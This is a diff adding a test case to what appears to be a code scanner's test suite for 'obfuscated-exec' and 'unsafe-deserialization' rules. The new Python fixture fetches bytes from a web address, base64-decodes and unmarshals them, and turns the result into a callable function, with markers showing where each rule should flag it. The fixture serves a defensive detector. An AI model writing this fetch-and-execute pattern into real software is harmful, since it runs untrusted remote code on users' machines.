@@ -4,6 +4,7 @@ import assert from 'node:assert/strict';
 import { checksOf, find } from '../kit/check.ts';
 
 const { python, javascript } = checksOf('obfuscated-exec');
+const { python: both } = checksOf('obfuscated-exec', 'unsafe-deserialization');
 
 /** The rules that speak of a text, in order. */
 const rulesOf = (language: 'python' | 'javascript', text: string) => find(language, text).map((it) => it.rule);
@@ -228,6 +229,23 @@ describe('obfuscated-exec', () => {
                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
       const kind = "JSON";
       window[kind].parse(atob("Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkJyk7"));
+    `;
+  });
+
+  it('is told once where byte code is unpacked on the way', () => {
+    both`
+      import base64
+      import marshal
+      import types
+
+      import requests
+
+      packed = requests.get("https://example.com/score.bin").content
+      code = marshal.loads(base64.b64decode(packed))
+      score = types.FunctionType(code, {}, "score")
+                                 ^^^^ obfuscated-exec
+      table = marshal.loads(requests.get("https://example.com/table.bin").content)
+                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ unsafe-deserialization
     `;
   });
 });
